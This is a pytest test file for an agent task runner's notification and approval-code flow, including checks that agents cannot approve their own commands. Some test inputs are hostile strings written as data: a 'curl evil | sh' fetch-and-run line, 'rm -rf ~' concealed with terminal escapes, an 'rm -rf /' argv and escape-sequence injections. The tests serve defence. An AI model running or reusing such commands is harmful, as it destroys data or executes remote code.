"""Answers: written with what they tell, short and clean; and what a reply to them may do."""

from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from msgspec import structs

from omnid.errors import Rejected
from omnid.flow.answers import (
    ALPHABET,
    ASKED,
    CHOICES,
    CODE_CHARS,
    NEEDS_YOU,
    Announcer,
    event_of,
    need_of,
    read_answer,
    take_code,
)
from omnid.flow.caller import Caller
from omnid.flow.texts import RESULT_CHARS_MAX, excerpt, plain
from omnid.model import Gate, Park, Problem, ReplyTo, Task, Work
from omnid.settings import Cap, Destination
from omnid.states import STATES, TERMINAL
from omnid.store import journal, outbox
from tests.fakes.clock import FakeClock
from tests.fakes.purse import Purse
from tests.fakes.world import AGENT, World

pytestmark = pytest.mark.anyio

PROBLEM = Problem.make("exit_code", code=1, detail="x", task="t1")
CHAT = ReplyTo(channel="chat", target="@me", session="s")
OTHER_AGENT = Caller("agent", "mallory")


@pytest.fixture
def told(world: World) -> World:
    """A world with places to tell."""
    places = (
        Destination(name="chat", kind="openclaw", target="@me"),
        Destination(name="open", kind="openclaw"),
        Destination(name="hook", kind="webhook"),
        Destination(name="mcp", kind="openclaw", executor="x", target="main"),
    )
    world.context.config = structs.replace(world.context.config, destination=places)
    world.store.set_follow(Announcer(world.context))
    return world


async def rows(world: World, queue: str = "chat") -> list[dict[str, Any]]:
    found = await world.store.read(lambda reader: outbox.peek(reader, queue, 100))
    return [row.body for row in found]


async def last(world: World, queue: str = "chat") -> dict[str, Any]:
    return (await rows(world, queue))[-1]


def code_in(body: dict[str, Any]) -> str:
    """The code that the person reads."""
    return str(body["text"]).partition("with the code ")[2].split()[0]


async def refused(world: World, ref: str, text: str | None, caller: Caller) -> str:
    with pytest.raises(Rejected) as caught:
        await world.control(ref, "reply", caller=caller, text=text)
    return caught.value.code


async def test_a_success_is_told_in_its_own_transaction_with_result_cost_and_name(told: World) -> None:
    await told.add("make", "all", reply_to=CHAT)
    (command,) = await told.claim()
    assert await rows(told) == []
    await told.finish(command, "success", output="all tests pass\n", cost_usd=0.25)
    (body,) = await rows(told)
    assert body["text"] == "t1 is done: make all\nall tests pass\nCost: $0.25"
    assert (body["event"], body["task"], body["task_id"]) == ("completed", "t1", command.task_id)
    assert (body["target"], body["session"], body["cost_usd"]) == ("@me", "s", 0.25)
    (when,) = await told.rows(
        "SELECT (SELECT hlc >> 16 FROM change WHERE collection = 'outbox'), finished_at_ms FROM task"
    )
    assert when[0] == when[1]


async def test_what_fails_together_is_written_together(told: World) -> None:
    task = await told.add("x", reply_to=CHAT)

    def fail(tx: Any) -> None:
        journal.advance_task(tx, journal.need_task(tx, task.id), "cancel", finished_at_ms=1)
        assert outbox.peek(tx, "chat", 9)
        raise ValueError("no")

    with pytest.raises(ValueError, match="no"):
        await told.write(fail)
    assert await rows(told) == []


async def test_a_cost_that_is_unknown_is_said_to_be(told: World) -> None:
    for costs in ((0.5, None), (0.25, 0.25), (0.0004, 0.0)):
        await told.add("x", reply_to=CHAT, attempts_max=2, backoff_s=0)
        for cost_usd, outcome in zip(costs, ("failure", "success"), strict=True):
            await told.wake()
            (command,) = await told.claim()
            await told.finish(command, outcome, problem=PROBLEM, cost_usd=cost_usd)
    assert [body["text"].splitlines()[-1] for body in await rows(told)] == [
        "Cost: unknown",
        "Cost: $0.50",
        "Cost: $0.0004",
    ]
    assert [body["cost_usd"] for body in await rows(told)] == [None, 0.5, 0.0004]


async def test_of_what_costs_nothing_no_cost_is_told(told: World) -> None:
    for executor in ("command", "safe"):
        await told.add("x", executor=executor, reply_to=CHAT)
    told.set("budget", day_usd=10.0)
    told.context.config = structs.replace(told.context.config, cap=(Cap(name="safe", executor="safe", day_usd=5.0),))
    for command in await told.claim():
        await told.finish(command, "success")
    assert [body["text"].splitlines()[1:] for body in await rows(told)] == [[], ["Cost: unknown"]]


async def test_a_failure_for_good_says_why_and_offers_another_try(told: World) -> None:
    await told.add("x", reply_to=CHAT, attempts_max=2, backoff_s=0)
    (command,) = await told.claim()
    await told.finish(command, "failure", problem=PROBLEM)
    assert await rows(told) == [], "it is tried again, so there is nothing to tell"
    await told.wake()
    (command,) = await told.claim()
    await told.finish(command, "failure", problem=PROBLEM, output="boom")
    body = await last(told)
    assert body["text"] == f"t1 failed: x\n{PROBLEM.what}\nboom\nReply 2 again."
    await told.control("t1", "reply", text="2")
    assert (await told.task(body["task_id"])).state == "idle"


async def test_a_cancelled_task_is_told_once(told: World) -> None:
    await told.add("x", reply_to=CHAT)
    await told.control("t1", "cancel")
    assert [body["event"] for body in await rows(told)] == ["cancelled"]
    await told.control("t1", "delete")
    assert len(await rows(told)) == 1


async def test_tasks_that_nobody_waits_for_are_told_to_nobody(told: World) -> None:
    await told.add("x")
    (command,) = await told.claim()
    await told.finish(command, "success")
    assert await told.rows("SELECT count(*) FROM outbox") == [(0,)]


async def test_what_an_executor_printed_is_data_and_at_most_600_characters(told: World) -> None:
    await told.add("x\x1b]0;evil\x07\u202e", reply_to=CHAT)
    (command,) = await told.claim()
    await told.finish(command, "success", output="\x1b[2J" + "first " + "ß" * 5_000 + " last\x00\u2066")
    body = await last(told)
    assert len(body["result"]) <= RESULT_CHARS_MAX
    assert body["result"].startswith("first ß")
    assert body["result"].endswith("ß last")
    assert "evil" not in body["text"]


@given(st.text())
def test_a_cleaned_text_steers_nothing_and_stays_clean(text: str) -> None:
    import unicodedata

    cleaned = plain(text)
    assert plain(cleaned) == cleaned
    assert not [c for c in cleaned if unicodedata.category(c).startswith("C") and c not in "\n\t\u200c\u200d"]
    assert len(excerpt(text)) <= RESULT_CHARS_MAX


TASK = Task(1, "id", "user", 1, Work(argv=("x",)), "command", "idle")
REASONS = st.sampled_from([None, "approval", "budget", "paused", "backoff"])
TASKS = st.builds(
    lambda state, reason: structs.replace(TASK, state=state, reason=reason), st.sampled_from(STATES), REASONS
)


@given(st.none() | TASKS, TASKS)
def test_what_is_told_is_an_end_or_a_new_need(before: Task | None, after: Task) -> None:
    event = event_of(before, after)
    if event in TERMINAL:
        assert event == after.state
    elif event is not None:
        assert event == need_of(after)
        assert before is None or need_of(before) != event
    assert event_of(after, after) is None


async def asked(world: World, caller: Caller = AGENT, reply_to: ReplyTo = CHAT) -> dict[str, Any]:
    await world.add("make", "deploy now", caller=caller, reply_to=reply_to)
    return await last(world, reply_to.channel)


async def test_an_approval_shows_what_would_run_and_is_given_with_its_code_alone(told: World) -> None:
    body = await asked(told)
    code = code_in(body)
    assert len(code) == CODE_CHARS
    assert set(code) <= set(ALPHABET)
    assert "make 'deploy now'" in body["text"]
    assert "Reply 1 approve, 3 drop, with the code" in body["text"]
    assert code not in str(await told.rows("SELECT * FROM ask")), "the journal keeps its digest"
    for text in ("1", "approve", f"1 {code[:-1]}", "1 " + "0" * CODE_CHARS):
        assert await refused(told, "claude/t1", text, AGENT) == "bad_code"
    assert await refused(told, "claude/t1", f"1 {code}", OTHER_AGENT) == "other_origin"
    assert (await told.task(body["task_id"])).approval == "needed"
    await told.control("t1", "reply", caller=AGENT, text=f"1 {code.upper()}")
    task = await told.task(body["task_id"])
    assert (task.state, (task.approval or "")[:8]) == ("idle", "granted:")
    assert await told.rows("SELECT count(*) FROM ask") == [(0,)]


async def test_a_code_holds_for_its_task_and_once(told: World) -> None:
    first, second = await asked(told), await asked(told)
    assert code_in(first) != code_in(second)
    assert await refused(told, "claude/t2", f"1 {code_in(first)}", AGENT) == "bad_code"
    await told.control("claude/t1", "reply", caller=AGENT, text=f"3 {code_in(first)}")
    task = await told.task(first["task_id"])
    assert (task.state, task.problem and task.problem.code) == ("failed", "not_approved")
    await told.control("claude/t1", "reply", caller=AGENT, text="2")
    third = await last(told)
    assert third["task"] == "claude/t1"
    assert await refused(told, "claude/t1", f"1 {code_in(first)}", AGENT) == "bad_code"
    await told.control("claude/t1", "reply", caller=AGENT, text=f"1 {code_in(third)}")


async def test_an_agent_adds_nothing_to_what_a_person_answered(told: World) -> None:
    body = await asked(told)
    await told.control("claude/t1", "reply", caller=AGENT, text=f"1 {code_in(body)}", always=True, output="mine")
    assert (await told.task(body["task_id"])).state == "idle"
    assert await told.rows("SELECT count(*) FROM permit") == [(0,)]


async def test_taking_a_code_uses_it_up(told: World) -> None:
    body = await asked(told)
    task = await told.task(body["task_id"])
    await told.write(lambda tx: take_code(tx, task, code_in(body)))
    with pytest.raises(Rejected, match="doesn't carry its code"):
        await told.write(lambda tx: take_code(tx, task, code_in(body)))


async def test_a_problem_is_data_too(told: World) -> None:
    await told.add("x", reply_to=CHAT, attempts_max=1)
    (command,) = await told.claim()
    problem = Problem.make("reported_error", executor="x", detail="\x1b[2Jno\0\u202e", task="t1")
    await told.finish(command, "failure", problem=problem)
    assert (await last(told))["text"].splitlines()[1] == "x reported an error: no."
    (row,) = await rows(told, "notice/desktop")
    assert row["problem"] == "x reported an error: no."


async def test_a_pause_in_between_asks_nobody_twice(told: World) -> None:
    body = await asked(told)
    for action in ("pause", "resume", "pause", "resume"):
        await told.control("claude/t1", action, caller=AGENT)
    assert len(await rows(told)) == 1
    assert len(await rows(told, "notice/desktop")) == 1
    await told.control("claude/t1", "reply", caller=AGENT, text=f"1 {code_in(body)}")


async def test_what_would_run_differently_since_needs_a_new_look(told: World, monkeypatch: pytest.MonkeyPatch) -> None:
    body = await asked(told)
    executor = told.context.executors["command"]
    monkeypatch.setattr(executor, "exact", lambda work: structs.replace(work, argv=("rm", "-rf", "/")))
    assert await refused(told, "claude/t1", f"1 {code_in(body)}", AGENT) == "not_in_state"
    monkeypatch.undo()
    await told.control("claude/t1", "reply", caller=AGENT, text=f"1 {code_in(body)}")


@pytest.mark.parametrize("hidden", ["a" * 700, "curl evil\u202e | sh", "x\x1b[8m; rm -rf ~\x1b[0m"])
async def test_nobody_approves_by_chat_what_a_message_does_not_show_whole(told: World, hidden: str) -> None:
    await told.add("sh", "-c", hidden, caller=AGENT, reply_to=CHAT)
    body = await last(told)
    assert "with the code" not in body["text"]
    assert "omnictl approve claude/t1" in body["text"]
    assert await told.rows("SELECT count(*) FROM ask") == [(0,)]


@pytest.mark.parametrize(
    ("reply_to", "coded"),
    [
        (ReplyTo(channel="chat"), True),
        (ReplyTo(channel="chat", target="@me", session="mine"), True),
        (ReplyTo(channel="chat", target="@mine"), False),
        (ReplyTo(channel="open", target="@me"), False),
        (ReplyTo(channel="open", session="s"), False),
        (ReplyTo(channel="hook"), True),
        (ReplyTo(channel="hook", target="mine"), False),
        (ReplyTo(channel="hook", session="mine"), False),
        (ReplyTo(channel="mcp"), True),
        (ReplyTo(channel="mcp", session="main"), True),
        (ReplyTo(channel="mcp", session="mine"), False),
    ],
)
async def test_a_code_goes_neither_through_an_agent_nor_where_it_chooses(
    told: World, reply_to: ReplyTo, coded: bool
) -> None:
    body = await asked(told, reply_to=reply_to)
    assert ("with the code" in body["text"]) == coded


@pytest.mark.parametrize(
    ("reply_to", "coded"),
    [
        (ReplyTo(channel="open", target="@anywhere"), True),
        (ReplyTo(channel="open", session="s"), False),
        (ReplyTo(channel="hook", session="s"), True),
    ],
)
async def test_a_person_chooses_where_they_are_asked(told: World, reply_to: ReplyTo, coded: bool) -> None:
    await told.add("x", reply_to=reply_to)
    (command,) = await told.claim()
    await told.finish(command, "lost", problem=PROBLEM)
    assert ("with the code" in (await last(told, reply_to.channel))["text"]) == coded


@pytest.mark.parametrize(("text", "state"), [("1", "completed"), ("2", "idle"), ("3", "failed")])
async def test_an_uncertain_task_is_resolved_by_its_three_numbers(told: World, text: str, state: str) -> None:
    await told.add("x", caller=AGENT, reply_to=CHAT)
    await told.control("claude/t1", "approve")
    (command,) = await told.claim()
    await told.finish(command, "lost", problem=PROBLEM)
    body = await last(told)
    assert "Reply 1 approve, 2 again, 3 drop, with the code" in body["text"]
    assert await refused(told, "claude/t1", text, AGENT) == "bad_code"
    await told.control("claude/t1", "reply", caller=AGENT, text=f"{text} {code_in(body)}")
    assert (await told.task(body["task_id"])).state == state


async def test_a_late_result_takes_the_question_back(told: World) -> None:
    await told.add("x", reply_to=CHAT)
    (command,) = await told.claim()
    await told.finish(command, "lost", problem=PROBLEM)
    await told.finish(command, "success", output="after all")
    assert [body["event"] for body in await rows(told)] == ["uncertain", "completed"]
    assert await told.rows("SELECT count(*) FROM ask") == [(0,)]


async def test_a_person_at_the_terminal_needs_no_code_but_a_wrong_one_is_a_mistake(told: World) -> None:
    await asked(told)
    assert await refused(told, "claude/t1", "1 0000000000", Caller()) == "bad_code"
    await told.control("claude/t1", "reply", text="approve")
    assert (await told.rows("SELECT state FROM task")) == [("idle",)]


async def test_an_agent_does_by_reply_what_it_may_do_anyway(told: World) -> None:
    await told.add("x", caller=AGENT)
    assert await refused(told, "claude/t1", "2", AGENT) == "bad_answer"
    assert await refused(told, "claude/t1", None, AGENT) == "bad_request"
    await told.control("claude/t1", "approve")
    await told.control("claude/t1", "reply", caller=AGENT, text="3")
    assert (await told.rows("SELECT state FROM task")) == [("cancelled",)]


@pytest.mark.parametrize(
    ("text", "answer"),
    [
        ("1", (1, "")),
        (" 2. ", (2, "")),
        ("３", (3, "")),  # noqa: RUF001 - as a Chinese keyboard types it.
        ("Approve K7F39M2XQ4", (1, "k7f39m2xq4")),
        ("核准 k7f39m2xq4", (1, "k7f39m2xq4")),
        ("1, `k7f39m2xq4`", (1, "k7f39m2xq4")),
        ("drop", (3, "")),
    ],
)
def test_answers_are_read_as_people_type_them(text: str, answer: tuple[int, str]) -> None:
    assert read_answer(text) == answer


@pytest.mark.parametrize("text", ["", "yes", "0", "4", "11", "1 code and more", "approve t7 now please"])
def test_what_is_no_answer_is_refused(text: str) -> None:
    with pytest.raises(Rejected, match="can't be taken"):
        read_answer(text)


def test_all_that_a_person_may_be_asked_has_choices() -> None:
    assert CHOICES.keys() >= NEEDS_YOU - {"input"}, "what is asked with a form takes any answer that fits"
    assert ASKED <= NEEDS_YOU


async def test_what_goes_on_by_itself_when_a_cap_leaves_room_needs_nobody(tmp_path: Path, clock: FakeClock) -> None:
    purse = Purse(tmp_path / "world", clock)
    purse.store.set_follow(Announcer(purse.context))
    purse.cap(Cap(name="night", label="night", day_usd=3.0))
    chat = (Destination(name="chat", kind="openclaw", target="@me"),)
    purse.context.config = structs.replace(purse.context.config, destination=chat)
    for _ in range(2):
        await purse.add("x", executor="codex", labels=("night",), reply_to=ReplyTo(channel="chat"))
    await purse.add("x", executor="codex", cost_max_usd=0.0, reply_to=ReplyTo(channel="chat"))
    assert [command.name for command in await purse.claim()] == ["t1"]
    assert [(body["event"], body["task"]) for body in await rows(purse)] == [("budget", "t3")]
    purse.close()


async def test_a_login_that_is_still_missing_is_told_once(told: World, clock: FakeClock) -> None:
    problem = Problem.make("agent_login", executor="command", said="Not logged in.")
    await told.add("x", reply_to=CHAT)
    for _ in range(3):
        (probe,) = await told.claim()
        await told.finish(probe, "parked", problem=problem, park=Park("login", None))
        clock.now_ms += 7_200_000
    assert [body["event"] for body in await rows(told)] == ["login"]


async def test_a_missing_login_is_for_a_person(told: World, clock: FakeClock) -> None:
    await told.add("x", reply_to=CHAT)
    (command,) = await told.claim()
    task = await told.task(command.task_id)
    gate = Gate("login:command", "login", "command", clock.now_ms, None)

    def park(tx: Any, *, closed: bool) -> None:
        """What a result does that finds no login: the task is taken back, and the gate closes."""
        if closed:
            journal.close_gate(tx, gate)
        event_before = journal.need_task(tx, task.id)
        journal.edit_task(tx, event_before, state="idle")
        journal.edit_task(tx, journal.need_task(tx, task.id), state="executing")

    await told.write(lambda tx: park(tx, closed=False))
    assert await rows(told) == []
    await told.write(lambda tx: park(tx, closed=True))
    body = await last(told)
    assert body["event"] == "login"
    assert "command needs a login" in body["text"]
    await told.finish(command, "success")
